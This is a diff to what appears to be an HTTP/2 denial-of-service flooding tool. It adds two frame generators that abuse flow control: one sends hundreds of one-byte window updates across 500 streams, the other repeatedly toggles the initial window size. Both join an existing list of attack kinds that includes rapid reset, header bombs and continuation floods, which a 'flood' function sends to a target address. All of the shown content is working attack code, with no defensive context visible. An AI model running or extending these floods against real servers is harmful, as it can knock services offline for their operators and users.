@@ -77,6 +77,24 @@ def header_bombs(stream):
                     for number in range(stream, stream + 40, 2))
 
 
+def tiny_windows(stream):
+    """Five hundred watches that wait for the connection's window, which opens byte by byte."""
+    if stream == 1:
+        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 20)) + b"".join(
+            frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, END_STREAM, number, MESSAGE)
+            for number in range(1, 1_001, 2))
+    return frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 500
+
+
+def opening_windows(stream):
+    """SETTINGS that open and shut the windows of five hundred watches, so that DATA goes out in between."""
+    if stream == 1:
+        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30)) + b"".join(
+            frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, END_STREAM, number, MESSAGE)
+            for number in range(1, 1_001, 2))
+    return b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, stream // 4 * (turn % 2))) for turn in range(20))
+
+
 def integer(value):
     out = b""
     while value > 127:
@@ -85,7 +103,8 @@ def integer(value):
     return out + bytes([value])
 
 
-KINDS = (rapid_reset, answered_reset, overflowing_windows, empty_windows, continuations, pings, settings, header_bombs)
+KINDS = (rapid_reset, answered_reset, overflowing_windows, empty_windows, continuations, pings, settings, header_bombs,
+         tiny_windows, opening_windows)
 
 
 def flood(address, kinds, stop):
